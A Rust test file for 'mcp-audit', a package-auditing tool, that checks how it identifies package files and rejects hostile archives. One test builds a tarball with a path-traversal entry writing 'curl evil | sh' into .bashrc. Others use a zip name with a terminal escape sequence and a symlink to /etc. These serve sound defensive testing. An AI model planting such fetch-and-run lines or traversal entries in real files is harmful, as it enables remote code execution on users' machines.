//! `mcp-audit audit` on local package files: the fixtures of testdata/packages/ (built by
//! scripts/make-fixtures.py), hostile archives, and directories.

use std::path::Path;

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::support::archive::{zip, Tar, ZipEntry};
use crate::support::{run_in, testdata};

fn sha256_hex(path: &Path) -> String {
    hex::encode(Sha256::digest(std::fs::read(path).unwrap()))
}

/// Runs `audit ./FILE --format json` in `dir`; returns (exit code, the one result, stderr).
fn audit_json(dir: &Path, file: &str) -> (i32, Value, String) {
    let out = run_in(dir, &["audit", &format!("./{file}"), "--format", "json"]);
    let stdout = String::from_utf8(out.stdout).unwrap();
    let report: Value = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {stdout}"));
    assert_eq!(report["schema_version"], 1);
    let results = report["results"].as_array().unwrap();
    assert_eq!(results.len(), 1);
    (
        out.status.code().unwrap(),
        results[0].clone(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[test]
fn fixtures_are_identified_with_their_file_digest() {
    let dir = testdata().join("packages");
    let cases = [
        (
            "mcp-server-dice-1.0.0.tgz",
            "npm",
            "mcp-server-dice",
            "1.0.0",
        ),
        (
            "mcp_unit_convert-0.3.1-py3-none-any.whl",
            "pypi",
            "mcp-unit-convert",
            "0.3.1",
        ),
        (
            "mcp_unit_convert-0.3.1.tar.gz",
            "pypi",
            "mcp-unit-convert",
            "0.3.1",
        ),
        ("mcp-clock-0.2.0.crate", "crates", "mcp-clock", "0.2.0"),
        ("notes-search-1.4.0.mcpb", "mcpb", "notes-search", "1.4.0"),
    ];
    for (file, ecosystem, name, version) in cases {
        let (code, result, stderr) = audit_json(&dir, file);
        let package = &result["package"];
        assert_eq!(result["error"], Value::Null, "{file}: {stderr}");
        assert_eq!(package["ecosystem"], ecosystem, "{file}");
        assert_eq!(package["name"], name, "{file}");
        assert_eq!(package["version"], version, "{file}");
        assert_eq!(package["sha256"], sha256_hex(&dir.join(file)), "{file}");
        assert_eq!(package["source"], format!("./{file}"), "{file}");
        // Honest servers: allowed or warned, and the exit code says so (design.md).
        let verdict = result["verdict"].as_str().unwrap();
        assert!(
            matches!(verdict, "allow" | "warn"),
            "{file}: {verdict} {result}"
        );
        assert_eq!(code, 0, "{file}: {stderr}");
    }
}

#[test]
fn a_rejected_archive_exits_2_with_one_line_and_an_archive_finding() {
    let dir = tempfile::tempdir().unwrap();
    let tgz = Tar::new()
        .file(
            "package/package.json",
            br#"{"name":"evil","version":"1.0.0"}"#,
        )
        .file("package/../../../.bashrc", b"curl evil | sh\n")
        .gz();
    std::fs::write(dir.path().join("evil-1.0.0.tgz"), tgz).unwrap();
    let (code, result, stderr) = audit_json(dir.path(), "evil-1.0.0.tgz");
    assert_eq!(code, 2, "{stderr}");
    assert_eq!(result["verdict"], "error");
    let error = result["error"].as_str().unwrap();
    assert!(error.contains("package/../../../.bashrc"), "{error}");
    assert_eq!(error.matches("evil-1.0.0.tgz").count(), 1, "{error}");
    let finding = &result["findings"][0];
    assert_eq!(finding["rule"], "archive-path-traversal");
    assert_eq!(finding["category"], "archive");
    assert_eq!(finding["severity"], "critical");
    assert_eq!(finding["evidence"], "package/../../../.bashrc");
    assert!(!dir.path().join(".bashrc").exists());
    let unpack_lines: Vec<_> = stderr
        .lines()
        .filter(|l| l.contains("could not unpack"))
        .collect();
    assert_eq!(unpack_lines.len(), 1, "{stderr}");
}

#[test]
fn a_malformed_archive_names_its_path_once() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("broken.whl"), b"PK\x03\x04 not really").unwrap();
    let out = run_in(dir.path(), &["audit", "./broken.whl"]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    let line = stderr
        .lines()
        .find(|l| l.contains("could not unpack"))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert_eq!(line.matches("broken.whl").count(), 2, "{line}"); // target label + path once
    assert!(line.contains("not a readable archive"), "{line}");
}

#[test]
fn a_hostile_zip_name_is_escaped_in_the_message() {
    let dir = tempfile::tempdir().unwrap();
    let z = zip(&[ZipEntry::stored(b"manifest.json\x1b]0;owned\x07", b"{}")]);
    std::fs::write(dir.path().join("x.mcpb"), z).unwrap();
    let out = run_in(dir.path(), &["audit", "./x.mcpb"]);
    assert_eq!(out.status.code(), Some(2));
    let all = [out.stdout, out.stderr].concat();
    assert!(!all.contains(&0x1b), "raw escape reached the terminal");
    let text = String::from_utf8(all).unwrap();
    assert!(text.contains("\\u{001B}"), "{text}");
}

#[test]
fn an_archive_with_no_files_is_not_an_allow() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("empty.tgz"),
        Tar::new().dir("package/").gz(),
    )
    .unwrap();
    let (code, result, _) = audit_json(dir.path(), "empty.tgz");
    assert_eq!(code, 2);
    assert_eq!(result["verdict"], "error");
}

#[test]
fn a_directory_is_audited_in_place() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("server");
    std::fs::create_dir_all(pkg.join("dist")).unwrap();
    std::fs::write(
        pkg.join("package.json"),
        br#"{"name":"local-server","version":"0.0.1"}"#,
    )
    .unwrap();
    std::fs::write(pkg.join("dist/index.js"), b"console.log('hi')\n").unwrap();
    let (code, result, stderr) = audit_json(dir.path(), "server");
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(result["package"]["ecosystem"], "npm");
    assert_eq!(result["package"]["name"], "local-server");
    // A link out of the directory is refused, not followed.
    std::os::unix::fs::symlink("/etc", pkg.join("etc")).unwrap();
    let (code, result, _) = audit_json(dir.path(), "server");
    assert_eq!(code, 2);
    assert_eq!(result["findings"][0]["rule"], "archive-symlink");
}
